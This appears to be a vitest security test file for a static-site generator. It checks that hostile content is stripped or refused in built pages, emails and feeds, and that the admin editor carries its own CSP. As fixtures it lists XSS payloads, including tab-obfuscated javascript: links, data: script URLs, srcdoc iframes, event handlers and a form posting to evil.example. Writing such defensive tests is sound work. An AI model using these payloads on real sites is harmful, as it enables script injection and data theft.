// Hostile content against every output format (issue 15, findings 4, 9 and 10): whatever an
// editor writes, no output carries a script link, active markup or a request to another site,
// and the editor page is safe on a host that sends no headers.
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse as parseHtml } from 'parse5';
import { afterAll, describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { renderAdmin } from '../../src/integrations/admin.ts';
import { checkOutput } from '../../src/integrations/check-output.ts';
import { pathRulesFor } from '../../src/lib/authoring/cms-backend.ts';
import { policyFor, serializePolicy } from '../../src/lib/formats/csp.ts';
import { hashTree, listFiles } from '../setup/files.ts';
import { EXAMPLE_OUT, ROOT } from '../setup/paths.ts';
import { runBuild } from '../setup/run-build.ts';

const work = mkdtempSync(path.join(tmpdir(), 'cascade-hostile-outputs-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** A copy of the example content, changed by `edit` (file → new text). */
function content(name: string, edit: Record<string, (text: string) => string>): string {
  const dir = path.join(work, name);
  cpSync(path.join(ROOT, 'content'), dir, { recursive: true });
  for (const [file, change] of Object.entries(edit)) writeFileSync(path.join(dir, file), change(readFileSync(path.join(dir, file), 'utf8')));
  return dir;
}

type Node = { tagName?: string; attrs?: { name: string; value: string }[]; childNodes?: Node[]; content?: Node };

/**
 * Every address in an output file that a browser or client would run as script, found without
 * Cascade's own scanner: HTML through parse5 and the WHATWG URL parser (which drops tabs and
 * line breaks as a browser does), other text by searching it with tabs removed.
 */
function scriptLinks(file: string, text: string): string[] {
  if (!file.endsWith('.html')) return /javascript:|vbscript:/i.test(text.replace(/[\t\r\n]/g, '').replace(/&#x0*9;|&#0*9;|&Tab;/gi, '')) ? [file] : [];
  const found: string[] = [];
  const walk = (node: Node) => {
    for (const { name, value } of node.attrs ?? []) {
      if (!['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster'].includes(name)) continue;
      let protocol: string;
      try {
        protocol = new URL(value, 'https://site.example/').protocol;
      } catch {
        continue;
      }
      if (protocol === 'javascript:' || protocol === 'vbscript:' || protocol === 'data:') found.push(`${file}: ${name}=${JSON.stringify(value)}`);
    }
    for (const child of node.childNodes ?? []) walk(child);
    if (node.content) walk(node.content);
  };
  walk(parseHtml(text) as unknown as Node);
  return found;
}

const TEXT_OUTPUT = /\.(html|xml|txt|ics|json)$/;

describe('a newsletter whose body hides a javascript: link behind a character reference', () => {
  const out = path.join(work, 'dist');
  cpSync(EXAMPLE_OUT, out, { recursive: true });
  const before = hashTree(out);
  const hostile = content('newsletter', {
    'newsletters/autumn-2026.mdx': (text) => `${text}\n<a href="java&#x09;script:alert(document.domain)">Read the full story</a>\n`,
  });
  const run = runBuild(out, { CASCADE_CONTENT: hostile });

  test('never reaches any output: email.html, email.txt, pages, feeds or data', () => {
    const files = listFiles(out).filter((f) => TEXT_OUTPUT.test(f) && !f.startsWith('pagefind/'));
    expect(files).toContain('newsletters/autumn-2026/email.html');
    expect(files.flatMap((f) => scriptLinks(f, readFileSync(path.join(out, f), 'utf8')))).toEqual([]);
  });

  test('either stops the build naming the newsletter and leaving dist/ as it was, or publishes it without the link', () => {
    if (run.status === 0) {
      expect(readFileSync(path.join(out, 'newsletters/autumn-2026/email.html'), 'utf8')).toContain('Read the full story');
    } else {
      expect(run.output).toContain('newsletters/autumn-2026.mdx');
      expect(hashTree(out)).toBe(before);
    }
  });
});

describe('markup that slipped past the content checks is refused after rendering', () => {
  // A renderer bug is simulated by writing into built pages: the output check must catch
  // each, naming the page and the entry file behind it, whatever the CSP would have done.
  const HOSTILE: [string, string][] = [
    ['<iframe src="https://video.example/embed/1" title="x"></iframe>', 'an <iframe>'],
    ['<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;" title="x"></iframe>', 'a srcdoc attribute on <iframe>'],
    ['<script>alert(1)</script>', 'an inline <script>'],
    ['<img src="https://tracker.example/pixel.gif" alt="">', 'an image from another site (https://tracker.example)'],
    ['<form action="https://evil.example/collect"><label>Name <input name="n"></label></form>', 'a form that sends what is typed to another site (https://evil.example)'],
    ['<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Book</a>', 'a data: address in href'],
    ['<a href="java&#x09;script:alert(1)">Book</a>', 'a javascript: address in href'],
    ['<p onmouseover="alert(1)">x</p>', 'an event handler onmouseover'],
  ];

  test.each(HOSTILE)('%s is refused', async (markup, what) => {
    const dir = path.join(work, `tampered-${HOSTILE.findIndex(([m]) => m === markup)}`);
    cpSync(EXAMPLE_OUT, dir, { recursive: true });
    const page = path.join(dir, 'reviews/child-a-2019/index.html');
    writeFileSync(page, readFileSync(page, 'utf8').replace('</main>', `${markup}</main>`));
    // One cache of pages that passed html-validate, so only the changed page is validated again.
    const problems = (await checkOutput(dir, '/', { pending: [], site: 'https://learning.northvale-scp.example/', contentDir: path.join(ROOT, 'content'), cacheDir: path.join(work, 'html-cache') })).join('\n');
    expect(problems).toContain(`page /reviews/child-a-2019/ (from content/reviews/child-a-2019.mdx) has ${what}`);
  });
});

describe('the web editor at /admin/', () => {
  const html = readFileSync(path.join(EXAMPLE_OUT, 'admin/index.html'), 'utf8');

  test('carries its own Content-Security-Policy, so a host without headers still applies it', () => {
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1]?.replace(/&#39;/g, "'");
    // The example is built to sign in with GitLab (tests/setup/build-example.ts): that host only.
    expect(policy).toBe(serializePolicy(policyFor('admin/', [], pathRulesFor({ CASCADE_CMS_REPO: 'northvale/learning' })), 'meta'));
  });

  test('offers no local backend in a build, in its config, its page or the host headers', () => {
    const config = parse(readFileSync(path.join(EXAMPLE_OUT, 'admin/config.yml'), 'utf8'));
    expect(config).not.toHaveProperty('local_backend');
    for (const file of ['admin/index.html', 'admin/config.yml', '_headers']) expect(readFileSync(path.join(EXAMPLE_OUT, file), 'utf8')).not.toMatch(/localhost|127\.0\.0\.1/);
  });

  test('escapes the partnership\'s short name', async () => {
    const dir = content('admin-name', { 'partnership.yaml': (text) => text.replace(/^shortName: .*$/m, 'shortName: "NSCP</title><script>alert(1)</script>"') });
    const admin = await renderAdmin(dir, {});
    expect(admin.html).toContain('<title>Content manager – NSCP&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>');
    // Decap and our own admin script, and nothing from the name.
    expect(admin.html.match(/<script/g)).toHaveLength(2);
  });

  test('the dev server\'s copy alone may talk to npx decap-server', async () => {
    const dev = await renderAdmin(path.join(ROOT, 'content'), {}, { dev: true });
    expect(parse(dev.config)).toMatchObject({ local_backend: true });
    expect(dev.html).toContain('http://localhost:8081');
  });
});
